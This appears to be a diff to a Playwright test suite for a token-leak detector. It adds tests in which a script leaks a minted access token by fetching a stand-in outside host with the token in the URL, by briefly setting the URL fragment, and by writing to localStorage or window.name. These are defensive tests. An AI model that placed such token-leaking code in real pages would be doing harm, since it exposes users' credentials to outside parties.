@@ -219,6 +219,38 @@ for (const [door, seen] of [
   })
 }
 
+/** What a script does wrong with a token in a page that is there already, or for a moment only. */
+for (const [name, leak, seen] of [
+  [
+    'a URL that it fetches',
+    async (token: string) =>
+      void (await fetch(`http://elsewhere.example/?${token}`).catch(() => 0)),
+    ['URL (plain)'],
+  ],
+  [
+    'a fragment for a moment',
+    (token: string) => {
+      location.hash = token
+      history.replaceState(null, '', '/clean')
+    },
+    ['URL (plain)'],
+  ],
+  [
+    'storage, without a call',
+    (token: string) => {
+      localStorage['t'] = token
+    },
+    ['web storage (plain)'],
+  ],
+] as const) {
+  test(`a script leaks by ${name}`, async ({ page, emulator, tokenSentinel }) => {
+    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
+    await page.goto('/clean')
+    await page.evaluate<void, string>(leak, accessToken)
+    await expectSightings(tokenSentinel, seen)
+  })
+}
+
 test.describe('a test', () => {
   test.fail('fails by a leak that it does not take', async ({ page }) => {
     await page.goto('/routes/header')
@@ -263,12 +295,15 @@ test.describe('a test', () => {
 
   test('is told of what a tab held that was closed, after an earlier look', async ({
     page,
+    emulator,
     tokenSentinel,
   }) => {
+    const { accessToken } = await emulator.mintToken(DEMO_CUSTOMER.email)
     await page.goto('/clean')
     expect(await tokenSentinel.takeSightings()).toEqual([])
-    await page.goto('/client/window-name')
-    await expect(page.getByText('Done')).toBeVisible()
+    await page.evaluate((token) => {
+      window.name = token
+    }, accessToken)
     await page.close()
     await expectSightings(tokenSentinel, ['window.name (plain)'])
   })
